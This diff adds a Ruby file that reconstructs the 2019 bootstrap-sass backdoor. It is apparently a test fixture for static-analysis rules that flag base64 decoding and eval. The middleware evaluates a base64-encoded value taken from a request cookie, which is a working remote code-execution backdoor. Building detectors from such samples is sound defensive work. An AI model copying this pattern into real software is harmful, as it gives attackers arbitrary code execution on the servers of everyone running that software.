@@ -0,0 +1,15 @@
+# Reconstruction of the backdoor published in bootstrap-sass 3.2.0.3 (2019):
+# a cookie sent to any Rails app was decoded and evaluated.
+require 'base64'
+
+module Bootstrap
+  class Engine
+    def call(env)
+      request = Rack::Request.new(env)
+      payload = request.cookies['___cfduid']
+      # ruleid: ruby-base64-usage, ruby-eval-usage
+      eval(Base64.urlsafe_decode64(payload)) if payload
+      @app.call(env)
+    end
+  end
+end